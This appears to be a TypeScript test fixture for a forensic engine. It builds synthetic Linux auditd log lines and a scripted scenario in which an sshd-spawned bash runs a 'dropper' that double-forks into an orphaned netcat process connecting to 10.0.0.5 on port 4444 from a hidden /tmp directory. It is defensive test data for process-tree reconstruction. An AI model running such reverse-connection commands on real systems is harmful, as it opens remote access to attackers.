import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import initSqlJs from 'sql.js';
import type { EnginePorts } from '../../../src/engine/index.js';
import type { Source } from '../../../src/evidence/index.js';
import type { Member } from '../../../src/model/index.js';

/** One audit event as auditd writes it: x86_64, user alice (uid 1000, session 3) unless said otherwise. */
export interface AuditEvent {
  readonly at: number; // seconds after BASE
  readonly serial: number;
  readonly syscall: number;
  readonly pid: number;
  readonly ppid: number;
  readonly comm: string;
  readonly exe: string;
  readonly exit?: number;
  readonly a0?: string;
  readonly uid?: number;
  readonly ses?: number;
  readonly more?: readonly string[];
}

export const BASE = 1_700_000_000;

export function auditLines(events: readonly AuditEvent[]): string {
  return events
    .flatMap((event) => {
      const stamp = `audit(${(BASE + event.at).toFixed(3)}:${event.serial})`;
      const uid = event.uid ?? 1000, ses = event.ses ?? 3, auid = uid === 0 && event.ses === undefined ? 4294967295 : 1000;
      const result = event.syscall === 231 ? '' : ` success=yes exit=${event.exit ?? 0}`;
      const head = `type=SYSCALL msg=${stamp}: arch=c000003e syscall=${event.syscall}${result} a0=${event.a0 ?? '0'} a1=0 a2=0 a3=0 items=0 ppid=${event.ppid} pid=${event.pid} auid=${auid} uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=(none) ses=${auid === 4294967295 ? 4294967295 : ses} comm="${event.comm}" exe="${event.exe}" key="t"`;
      return [head, ...(event.more ?? []).map((line) => line.replace('STAMP', stamp))];
    })
    .join('\n')
    .concat('\n');
}

const exec = (args: readonly string[]): string => `type=EXECVE msg=STAMP: argc=${args.length} ${args.map((arg, at) => `a${at}=${/["\s]/.test(arg) ? Buffer.from(arg).toString('hex').toUpperCase() : `"${arg}"`}`).join(' ')}`;
const SSHD = { comm: 'sshd', exe: '/usr/sbin/sshd', uid: 0 } as const;
const BASH = { comm: 'bash', exe: '/usr/bin/bash' } as const;

/**
 * sshd 700 -> sshd 800 -> bash 810; bash runs ./dropper 820, which forks 821, which forks 822 and ends; 820 ends too.
 * 822 execs /tmp/.x/nc, connects, and is an orphan of pid 1. Beside it cron 300 (root) with a child 301.
 */
export const DOUBLE_FORK: readonly AuditEvent[] = [
  { at: 0, serial: 1, syscall: 59, pid: 700, ppid: 1, ...SSHD, more: [exec(['/usr/sbin/sshd', '-D'])] },
  { at: 1, serial: 2, syscall: 56, pid: 700, ppid: 1, ...SSHD, exit: 800, a0: '1200011' },
  { at: 1.1, serial: 3, syscall: 59, pid: 800, ppid: 700, ...SSHD, more: [exec(['/usr/sbin/sshd', '-D', '-R'])] },
  { at: 2, serial: 4, syscall: 56, pid: 800, ppid: 700, ...SSHD, exit: 810, a0: '1200011' },
  { at: 2.1, serial: 5, syscall: 59, pid: 810, ppid: 800, ...BASH, more: [exec(['bash', '-i'])] },
  { at: 3, serial: 6, syscall: 56, pid: 810, ppid: 800, ...BASH, exit: 820, a0: '1200011' },
  { at: 3.1, serial: 7, syscall: 59, pid: 820, ppid: 810, comm: 'dropper', exe: '/home/alice/dropper', more: [exec(['./dropper', 'say "hello there"'])] },
  { at: 3.2, serial: 8, syscall: 56, pid: 820, ppid: 810, comm: 'dropper', exe: '/home/alice/dropper', exit: 821, a0: '1200011' },
  { at: 3.3, serial: 9, syscall: 112, pid: 821, ppid: 820, comm: 'dropper', exe: '/home/alice/dropper', exit: 821 },
  { at: 3.4, serial: 10, syscall: 56, pid: 821, ppid: 820, comm: 'dropper', exe: '/home/alice/dropper', exit: 822, a0: '1200011' },
  { at: 3.5, serial: 11, syscall: 231, pid: 821, ppid: 820, comm: 'dropper', exe: '/home/alice/dropper' },
  { at: 3.6, serial: 12, syscall: 231, pid: 820, ppid: 810, comm: 'dropper', exe: '/home/alice/dropper' },
  { at: 3.7, serial: 13, syscall: 59, pid: 822, ppid: 1, comm: 'nc', exe: '/tmp/.x/nc', more: [exec(['nc', '10.0.0.5', '4444'])] },
  { at: 3.8, serial: 14, syscall: 42, pid: 822, ppid: 1, comm: 'nc', exe: '/tmp/.x/nc', more: ['type=SOCKADDR msg=STAMP: saddr=0200115C0A0000050000000000000000'] },
  { at: 4, serial: 15, syscall: 59, pid: 300, ppid: 1, comm: 'cron', exe: '/usr/sbin/cron', uid: 0, more: [exec(['cron', '-f'])] },
  { at: 5, serial: 16, syscall: 56, pid: 300, ppid: 1, comm: 'cron', exe: '/usr/sbin/cron', uid: 0, exit: 301, a0: '1200011' },
  { at: 5.1, serial: 17, syscall: 231, pid: 301, ppid: 300, comm: 'cron', exe: '/usr/sbin/cron', uid: 0 },
];

/** Text as a source of one plain member. */
export function sourceOf(text: string | Uint8Array, name: string = 'audit.log'): Source {
  const bytes = typeof text === 'string' ? new TextEncoder().encode(text) : text;
  const member: Member = {
    path: name, size: bytes.length, modifiedMicros: undefined,
     
    async *open(from) {
      if (from < bytes.length) yield bytes.subarray(from);
    },
  };
  return { name: `/case/${name}`, members: [member] };
}

const wasm = readFileSync(createRequire(import.meta.url).resolve('sql.js/dist/sql-wasm.wasm'));
export const loadSql = (): ReturnType<typeof initSqlJs> => initSqlJs({ wasmBinary: wasm.buffer.slice(wasm.byteOffset, wasm.byteOffset + wasm.byteLength) });

/** Ports over sources in memory; `paths` are not looked at. */
export function portsOver(sources: readonly Source[], store: boolean = true): EnginePorts {
  return { openSources: () => Promise.resolve([...sources]), loadSql: store ? loadSql : undefined };
}
